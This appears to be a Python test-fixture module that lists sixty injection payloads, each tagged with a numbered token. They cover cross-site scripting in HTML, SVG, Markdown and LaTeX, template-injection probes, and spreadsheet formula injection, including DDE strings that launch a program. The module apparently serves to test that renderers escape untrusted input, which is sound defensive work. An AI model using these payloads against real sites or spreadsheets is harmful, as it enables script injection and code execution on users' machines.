"""Sixty texts that are something else to a browser, a renderer of Markdown, a template engine or a spreadsheet.

Each would set ``window.__x``, open a dialog, or ask for an address with ``pwned`` in it. Each ends in its own number,
by which a test finds it where it is shown: `token`.
"""

_TEXTS = (
    "<script>window.__x=1</script>",
    "<SCRIPT SRC=//outside.invalid/pwned.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=window.__x=1>",
    "<img src=/pwned.png>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    " autofocus onfocus=alert(1) tabindex=1 ",
    '" style="background:url(/pwned.css)" x="',
    "<svg onload=window.__x=1>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<body onload=alert(1)>",
    "<iframe src=/pwned></iframe>",
    "<iframe srcdoc='<script>parent.__x=1</script>'></iframe>",
    "<object data=/pwned></object>",
    "<embed src=/pwned>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=/pwned onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=/pwned><button autofocus>",
    "<link rel=stylesheet href=/pwned.css>",
    "<style>@import '/pwned.css';</style>",
    "<meta http-equiv=refresh content='0;url=/pwned'>",
    "<base href=//outside.invalid/pwned/>",
    "<a href=javascript:alert(1)>click</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\u200bscript>alert(1)</script>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "![pixel](/pwned.png)",
    "![pixel](//outside.invalid/pwned.png)",
    "[ref]: javascript:alert(1) 'x'",
    "<javascript:alert(1)>",
    "```html <script>alert(1)</script>",
    "| a | <img src=x onerror=alert(1)> |",
    "$\\href{javascript:alert(1)}{x}$ $$\\unicode{<img src=x onerror=alert(1)>}$$",
    "{{ ''.__class__ }} {% import os %} ${window.__x=1} #{7*7} <%= 7*7 %>",
    "${alert(1)}`${alert(1)}`",
    '=HYPERLINK("http://outside.invalid/pwned","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)

FORMULAS = ("=", "+", "-", "@")
"""With what those begin that are formulas to a spreadsheet."""


def token(number: int) -> str:
    """What the payload of that number, from 0, ends in."""
    return f"no{number}."


PAYLOADS = tuple(f"{text} {token(number)}" for number, text in enumerate(_TEXTS))
